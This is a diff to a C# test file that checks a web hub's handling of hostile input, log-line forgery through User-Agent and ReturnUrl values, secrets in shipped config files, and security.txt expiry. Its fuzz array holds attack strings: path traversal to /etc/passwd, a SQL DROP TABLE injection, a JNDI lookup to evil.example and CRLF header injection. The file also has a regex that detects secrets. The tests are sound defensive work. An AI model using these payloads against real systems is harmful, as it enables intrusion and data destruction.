@@ -19,6 +19,8 @@ public sealed class ErrorsLogsAndDataTests(SqliteHub app) : IClassFixture<Sqlite
         "'", "\"", "%", "\\", "../../etc/passwd", "-1", "99999999999999999999", "1e309", "NaN", "[]", "{}", "\u202E", "\uD83D", "%00", "\r\nx: y", "a'; DROP TABLE Users;--", "${jndi:ldap://evil.example}", "0001-01-01", "9999-12-31", new string('x', 5000),
     ];
 
+    private static readonly string[] Settled = ["src/Hub.Web/appsettings.json", "src/Hub.Web/appsettings.Development.json", "docker-compose.yml", "Dockerfile"];
+
     private static CancellationToken Token => TestContext.Current.CancellationToken;
 
     [Fact]
@@ -125,7 +127,7 @@ public sealed class ErrorsLogsAndDataTests(SqliteHub app) : IClassFixture<Sqlite
     public async Task Line_60_line_breaks_in_what_a_browser_says_of_itself_forge_no_line()
     {
         LogBook book = new();
-        await using SqliteHub hub = new() { Additions = services => book.Listen(services, LogLevel.Trace) };
+        await using SqliteHub hub = new() { Additions = services => book.Listen(services, level: null) };
         var account = await hub.AccountAsync("ada@exemple.example");
         using var visitor = hub.Visitor();
         visitor.DefaultRequestHeaders.TryAddWithoutValidation("User-Agent", "Mozilla\u0085FORGED\u2028FORGED Chrome/1");
@@ -135,6 +137,7 @@ public sealed class ErrorsLogsAndDataTests(SqliteHub app) : IClassFixture<Sqlite
         using var signedIn = await visitor.SendFormAsync("/connexion?ReturnUrl=%0d%0aFORGED", new() { ["Email"] = account.Email!, ["Password"] = Organisers.Password });
 
         Assert.Equal(HttpStatusCode.Redirect, signedIn.StatusCode);
+        Assert.NotEmpty(book.Lines);
         Assert.DoesNotContain(book.Lines.SelectMany(l => l.Split('\n', '\r', '\u0085', '\u2028')), line => line.StartsWith("FORGED", StringComparison.Ordinal));
         Assert.All(await hub.ReadAsync(db => db.Audit.ToListAsync(Token)), line => Assert.DoesNotContain("FORGED", $"{line.Command}{line.Details}{line.Origin}", StringComparison.Ordinal));
         Assert.All(await hub.ReadAsync(db => db.Set<Hub.Core.Accounts.AccountSession>().Select(s => s.Device).ToListAsync(Token)), device => Assert.DoesNotContain("FORGED", device, StringComparison.Ordinal));
@@ -168,7 +171,7 @@ public sealed class ErrorsLogsAndDataTests(SqliteHub app) : IClassFixture<Sqlite
     [Fact]
     public void Line_63_no_secret_is_in_the_settings_that_come_with_the_hub()
     {
-        var files = new[] { "src/Hub.Web/appsettings.json", "src/Hub.Web/appsettings.Development.json", "docker-compose.yml", "Dockerfile" }.Select(f => File.ReadAllText(Repository.File(f)));
+        var files = Settled.Select(f => File.ReadAllText(Repository.File(f)));
 
         Assert.DoesNotContain(files, text => System.Text.RegularExpressions.Regex.IsMatch(text, @"(?i)(password|secret|token|apikey|pwd)[""']?\s*[:=]\s*[""']?(?!\$\{)[A-Za-z0-9+/]{6,}"));
     }
@@ -180,7 +183,7 @@ public sealed class ErrorsLogsAndDataTests(SqliteHub app) : IClassFixture<Sqlite
         var security = (await visitor.GetStringAsync("/.well-known/security.txt", Token)).Split('\n');
 
         Assert.Single(security, l => l.StartsWith("Contact: https://hub.example/", StringComparison.Ordinal));
-        var expires = DateTimeOffset.Parse(Assert.Single(security, l => l.StartsWith("Expires: ", StringComparison.Ordinal))["Expires: ".Length..], System.Globalization.CultureInfo.InvariantCulture);
+        var expires = DateTime.Parse(Assert.Single(security, l => l.StartsWith("Expires: ", StringComparison.Ordinal))["Expires: ".Length..], System.Globalization.CultureInfo.InvariantCulture, System.Globalization.DateTimeStyles.AdjustToUniversal);
         Assert.InRange(expires, An.Now.AddDays(1), An.Now.AddYears(1));
         foreach (var address in new[] { "/accessibilite", "/mentions-legales", "/donnees-personnelles", "/cookies", "/en/accessibilite", "/en/mentions-legales" })
         {
